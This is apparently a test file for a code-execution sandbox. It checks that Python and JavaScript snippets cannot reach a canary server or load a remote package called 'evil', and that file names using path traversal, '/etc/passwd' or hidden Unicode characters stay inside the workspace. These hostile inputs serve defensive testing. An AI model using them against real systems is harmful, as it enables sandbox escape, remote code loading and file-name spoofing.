import { expect, test } from './fixtures.ts';

/** The same through the front door: the app as it is built, and its own tools. */
const runs: Record<string, { language: 'python' | 'javascript'; code: (canary: string) => string }> = {
  'Python with urllib': {
    language: 'python',
    code: (canary) => `import urllib.request\nurllib.request.urlopen("${canary}/urllib").read()`,
  },
  'Python with a socket': {
    language: 'python',
    code: (canary) =>
      `import socket\nsocket.create_connection(("127.0.0.1", ${new URL(canary).port}), 2).send(b"GET / HTTP/1.0\\r\\n\\r\\n")`,
  },
  'Python with pyfetch': {
    language: 'python',
    code: (canary) => `from pyodide.http import pyfetch\nawait pyfetch("${canary}/pyfetch")`,
  },
  'Python with a package by its address': {
    language: 'python',
    code: (canary) => `import pyodide_js\nawait pyodide_js.loadPackage("${canary}/evil-1.0-py3-none-any.whl")\nimport evil`,
  },
  'JavaScript with fetch': { language: 'javascript', code: (canary) => `await fetch("${canary}/fetch")` },
  'JavaScript with a module by its address': {
    language: 'javascript',
    code: (canary) => `import evil from "${canary}/module.js"; export default evil;`,
  },
};

for (const [name, { language, code }] of Object.entries(runs))
  test(`${name} reaches nothing, and says so`, async ({ app, canary }) => {
    const run = await app.call('execute_code', { language, code: code(canary.origin), timeout_s: 10 });
    expect(run.status).not.toBe('succeeded');
    expect(run.error?.message).toBeTruthy();
    await app.page.waitForTimeout(100);
    expect(canary.hits).toEqual([]);
  });

/** A file name that leaves the workspace, hides its end, or reads otherwise than it is. */
const names = ['../outside.csv', 'data/../../outside.csv', '/etc/passwd', 'data/report\u202evsc.exe', 'data/zero\u200bwidth.csv'];

for (const language of ['python', 'javascript'] as const)
  test(`names of files stay inside of the workspace and read as they are: ${language}`, async ({ app }) => {
    const write = {
      python: (file: string) => `open(${JSON.stringify(file)}, "w").write("x")`,
      javascript: (file: string) => `require("fs").writeFileSync(${JSON.stringify(file)}, "x")`,
    }[language];
    for (const file of names) await app.call('execute_code', { language, code: write(file) });
    const { files } = await app.call('list_files', {});
    for (const { path } of files) {
      expect(path).not.toMatch(/^\/|\.\.|[\u0000-\u001f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u);
      expect(['etc/passwd', 'outside.csv']).toContain(path);
    }
  });
